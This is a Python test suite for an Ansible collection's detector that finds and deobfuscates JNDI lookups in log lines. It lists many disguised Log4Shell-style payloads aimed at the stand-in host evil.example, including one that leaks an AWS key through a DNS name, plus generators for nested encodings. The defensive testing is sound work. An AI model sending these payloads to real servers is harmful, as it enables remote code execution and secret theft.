# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""JNDI lookups are found however they were written, and no text keeps the search busy for long."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ansible_collections.cordon.docker.plugins.plugin_utils._analysis import jndi

DISGUISES = [
    "${jndi:ldap://evil.example:1389/a}",
    "${JNDI:LDAP://evil.example:1389/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example:1389/a}",
    "${${lower:jndi}:${lower:ldap}://evil.example:1389/a}",
    "${${lower:${upper:j}}ndi:ldap://evil.example:1389/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://evil.example:1389/a}",
    "${${:-j}ndi:ldap://evil.example:1389/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example:1389/a}",
    "${${sys:nothing:-j}ndi:ldap://evil.example:1389/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example:1389/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example:1389/a}",
    "${jnd${upper:ı}:ldap://evil.example:1389/a}",
    "${${a:${b:-x}:-j}ndi:ldap://evil.example:1389/a}",
    "${lower:$}{jndi:ldap://evil.example:1389/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%3A1389%2Fa%7D",
    "%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%253A1389%252Fa%257D",
    "%2525252524%2525257bjndi:ldap://evil.example:1389/a}",
    "${jnd%69:ldap://evil.example:1389/a}",
    "${jnd${upper:%C4%B1}:ldap://evil.example:1389/a}",
    "%u0024%u007bjndi:ldap://evil.example:1389/a}",
    r"\u0024\u007b\u006a\u006e\u0064\u0069:ldap://evil.example:1389/a}",
    r"\x24\x7bjndi:ldap://evil.example:1389/a}",
    "&#36;&#x7b;jndi&colon;ldap://evil.example:1389/a&#125;",
    "&dollar;&lbrace;jndi:ldap://evil.example:1389/a&rcub;",
    "%24{${::-j}ndi:ldap://evil.example:1389/a}",
]


@pytest.mark.parametrize("written", DISGUISES)
def test_a_disguised_lookup_is_found_with_its_server(written: str) -> None:
    line = f'10.0.0.9 - - "GET /?x={written} HTTP/1.1" 200 12'
    found = jndi.find_lookups(line)[0]
    assert (found.server or "").lower() == "evil.example"
    assert found.port == 1389
    assert found.name.lower() == "ldap://evil.example:1389/a"


def test_plain_and_disguised_lookups_are_told_apart() -> None:
    plain, disguised = jndi.find_lookups("${jndi:ldap://a/x} ${${::-j}ndi:ldap://b/x}")
    assert (plain.obfuscated, disguised.obfuscated) == (False, True)


@pytest.mark.parametrize(
    ("written", "server", "port"),
    [
        ("${jndi:ldap://10.0.0.1:4444/a}", "10.0.0.1", 4444),
        ("${jndi:dns://collector.example}", "collector.example", None),
        ("${jndi:ldap://[2001:db8::1]:389/a}", "[2001:db8::1]", 389),
        ("${jndi:ldap://127.0.0.1#evil.example:1389/a}", "127.0.0.1#evil.example", 1389),
        ("${jndi:ldap://${env:AWS_KEY}.evil.example/a}", "evil.example", None),
        ("${jndi:java:comp/env}", None, None),
        ("${jndi:", None, None),
        ("${${lower:j}ndi:ldap://cut.off.here", "cut.off.here", None),
    ],
)
def test_the_server_of_a_lookup(written: str, server: str | None, port: int | None) -> None:
    found = jndi.find_lookups(written)[0]
    assert (found.server, found.port) == (server, port)


@pytest.mark.parametrize(
    "line",
    [
        "GET /jndi:ldap HTTP/1.1",
        "${env:HOME} ${lower:ABC} ${date:yyyy}",
        "price: $ {jndi} and 100%",
        "%7B%22a%22%3A1%7D",
        "",
        "}}}}${",
    ],
)
def test_ordinary_lines_have_no_lookup(line: str) -> None:
    assert jndi.find_lookups(line) == []


def test_unknown_lookups_are_left_as_they_are() -> None:
    assert jndi.deobfuscate("a ${env:HOME} b ${} c") == "a ${env:HOME} b ${} c"


# ---- whatever is made by putting disguises into each other is undone

_KEYS = st.sampled_from(["env:NaN", "sys:x", "", "::", "k8s:a", "ctx:q", "lower"])


@st.composite
def disguised_character(draw: st.DrawFn, char: str) -> str:
    """One character inside up to three lookups."""
    written = char
    for _dummy in range(draw(st.integers(0, 3))):
        kind = draw(st.sampled_from(["plain", "lower", "upper", "default"]))
        if kind == "lower" and char.isalpha():
            written = f"${{lower:{written}}}"
        elif kind == "upper" and char.isalpha():
            written = f"${{upper:{written}}}"
        elif kind == "default":
            written = f"${{{draw(_KEYS)}:-{written}}}"
    return written


_ENCODERS: dict[str, Callable[[str], str]] = {
    "percent": lambda text: "".join(f"%{ord(c):02x}" for c in text),
    "upper percent": lambda text: "".join(f"%{ord(c):02X}" for c in text),
    "some percent": lambda text: text.replace("$", "%24").replace("{", "%7b").replace("%", "%25"),
    "percent u": lambda text: "".join(f"%u{ord(c):04x}" for c in text),
    "backslash": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    "entities": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "hex entities": lambda text: "".join(f"&#x{ord(c):x};" for c in text),
    "nothing": lambda text: text,
}


@st.composite
def disguised_lookup(draw: st.DrawFn) -> str:
    """A lookup whose characters are disguised one by one, encoded as a whole up to twice."""
    inner = "".join(draw(disguised_character(char)) for char in "jndi:ldap://h.example:99/a")
    written = f"${{{inner}}}"
    for _dummy in range(draw(st.integers(0, 2))):
        written = _ENCODERS[draw(st.sampled_from(sorted(_ENCODERS)))](written)
    return written


@settings(max_examples=200, deadline=None)
@given(disguised_lookup(), st.text(alphabet="abc /?&=", max_size=30))
def test_any_composition_is_undone(written: str, around: str) -> None:
    line = f"{around}{written}{around}"
    if len(line) > jndi.MAX_CHARS:
        return
    assert [(found.server or "").lower() for found in jndi.find_lookups(line)] == ["h.example"]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("${}:-jndilower%u0257b&#x;\\ \u0131")), max_size=2000))
def test_no_text_raises_or_grows(line: str) -> None:
    assert len(jndi.deobfuscate(line)) <= jndi.MAX_CHARS
    jndi.find_lookups(line)


@pytest.mark.parametrize(
    "piece",
    [
        "${",
        "${lower:",
        "${:-",
        "%25",
        "%",
        "&#",
        "\\u",
        "${jndi:",
        "}",
        "%24%7b",
        "\\u{",
        "${a:-${b:-",
        "$%7b",
    ],
)
def test_hostile_lines_take_no_time(piece: str) -> None:
    half = piece * (jndi.MAX_CHARS // len(piece) // 2)
    began = time.process_time()
    for line in (half * 4, half + "a" * 4000 + "}" * len(half)):
        jndi.find_lookups(line)
    assert time.process_time() - began < 0.5


def test_time_grows_with_length_only() -> None:
    def seconds(depth: int) -> float:
        line = "${lower:" * depth + "x" * (8 * depth) + "}" * depth
        began = time.process_time()
        for _dummy in range(5):
            jndi.deobfuscate(line)
        return time.process_time() - began

    seconds(50)
    assert seconds(800) < 100 * max(seconds(100), 0.001)
